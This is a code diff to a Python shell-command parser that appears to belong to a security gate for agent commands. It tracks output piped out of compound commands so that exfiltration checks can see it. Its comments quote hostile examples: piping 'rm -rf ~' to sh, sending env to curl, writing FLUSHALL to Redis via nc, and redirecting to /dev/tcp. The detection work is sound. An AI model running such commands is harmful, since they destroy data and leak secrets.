@@ -145,6 +145,39 @@ def _brace_var(m: re.Match[str]) -> str:
     return _SIMPLE_VAR.sub(r"${\1}", text) if text.startswith('"') else text
 
 
+# Compound commands: the output of each command in them is the compound's output.
+_COMPOUNDS = frozenset(
+    {
+        "compound_statement",
+        "subshell",
+        "for_statement",
+        "c_style_for_statement",
+        "while_statement",
+        "if_statement",
+        "case_statement",
+    }
+)
+
+
+def _fd(redirect: Any) -> str:
+    """The descriptor a file redirect names (``2`` of ``2>/dev/null``; "" when none)."""
+    fd = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
+    return node_text(fd) if fd is not None else ""
+
+
+def _compound(node: Any) -> bool:
+    """A compound command, bare or with its own redirects (``{ ...; } 2>/dev/null``)."""
+    if node.type == "redirected_statement":
+        body = next((c for c in node.named_children if c.type in STATEMENTS), None)
+        return body is not None and body.type in _COMPOUNDS
+    return node.type in _COMPOUNDS
+
+
+# Commands that print nothing on stdout (a pause or a test between the lines a group prints).
+_SILENT = frozenset({"sleep", "true", "false", ":", "cd", "wait", "test", "[", "shift", "usleep"})
+_OUT_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>"})
+
+
 class Walker(WordsMixin, RunnersMixin, FanOutMixin):
     """Walks one command string (and everything it runs) into :class:`Cmd` objects.
 
@@ -267,13 +300,52 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         self, parts: list[Any], depth: int, stdin_from: Cmd | None, via: str
     ) -> Cmd | None:
         prev = stdin_from
-        for part in parts:
-            if part.type not in STATEMENTS:
-                continue
+        kept = [p for p in parts if p.type in STATEMENTS]
+        for n, part in enumerate(kept):
             if prev is not None:
                 prev.pipes_out = True
-            prev = self.stmt(part, depth, stdin_from=prev, via=via)
+            if n + 1 < len(kept) and _compound(part):
+                seen = len(self.cmds)
+                self.stmt(part, depth, stdin_from=prev, via=via)
+                prev = self._compound_output(part, self._printers(self.cmds[seen:]), via)
+            else:
+                prev = self.stmt(part, depth, stdin_from=prev, via=via)
         return prev
+
+    def _printers(self, ran: list[Cmd]) -> list[Cmd]:
+        """The commands of a ``{ ...; }`` group, ``( ... )`` subshell, loop or ``if`` whose
+        output is the compound's own: not in a substitution, an inner pipe or a file."""
+        return [
+            c
+            for c in ran
+            if c.via != "substitution"
+            and not c.pipes_out
+            and c.name not in _SILENT
+            and not any(op in _OUT_REDIRECTS for op, _ in c.redirects)
+        ]
+
+    def _compound_output(self, node: Any, printers: list[Cmd], via: str) -> Cmd | None:
+        """What a compound command writes into a pipe, as one producer for the next
+        command: ``{ echo FLUSHALL; sleep 1; } | nc redis 6379`` types FLUSHALL to the
+        port, ``( echo 'rm -rf ~' ) | sh`` runs it, ``{ env; } | curl -d @- URL`` sends
+        the environment."""
+        for c in printers:
+            c.pipes_out = True
+        if len(printers) <= 1:
+            return printers[0] if printers else None
+        texts = [pipes.output_text(c, self.state.written) for c in printers]
+        out = Cmd(["cat"], node_text(node), self.state.cwd, via=via)
+        if all(t is not None and t != REMOTE for t in texts):
+            out.stdin_text = "\n".join(t or "" for t in texts) + "\n"
+            return out
+        from agentreflex.gate.rules.exfil import source_of  # only for a compound's unknown output
+
+        unknown = [c for c, t in zip(printers, texts, strict=True) if t is None or t == REMOTE]
+        out.stdin_from = next(
+            (c for c in unknown if source_of(c, self.where)),
+            next((c for c, t in zip(printers, texts, strict=True) if t == REMOTE), unknown[0]),
+        )
+        return out
 
     def redirected(self, node: Any, depth: int, stdin_from: Cmd | None, via: str) -> Cmd | None:
         body = None
@@ -281,6 +353,7 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
         stdin_text: str | None = None
         after: list[Any] = []
         loose: list[Any] = []
+        not_stdout: list[tuple[str, str]] = []  # 2>/dev/null: the redirect keeps no fd
         for child in node.named_children:
             if child.type == "heredoc_redirect":
                 stdin_text = self.heredoc(child, depth)
@@ -293,6 +366,8 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
             elif child.type == "file_redirect":
                 redirects.append(self.redirect(child, depth))
                 loose.extend(_redirect_words(child))
+                if _fd(child) not in ("", "1"):
+                    not_stdout.append(redirects[-1])
             elif body is None and child.type in STATEMENTS:
                 body = child
         cmd: Cmd | None = None
@@ -316,8 +391,15 @@ class Walker(WordsMixin, RunnersMixin, FanOutMixin):
                 cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
                 self.cmds.append(cmd)
         else:
+            seen = len(self.cmds)
             if body is not None:
                 self.stmt(body, depth, stdin_from, via)
+            out = [r for r in redirects if r[0] in _OUT_REDIRECTS and r not in not_stdout]
+            if out and body is not None and body.type in _COMPOUNDS:
+                for c in self._printers(
+                    self.cmds[seen:]
+                ):  # { ...; } > /dev/tcp/H/P: each writes there
+                    c.redirects.extend(out)
             cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
             self.cmds.append(cmd)
         for extra in after:
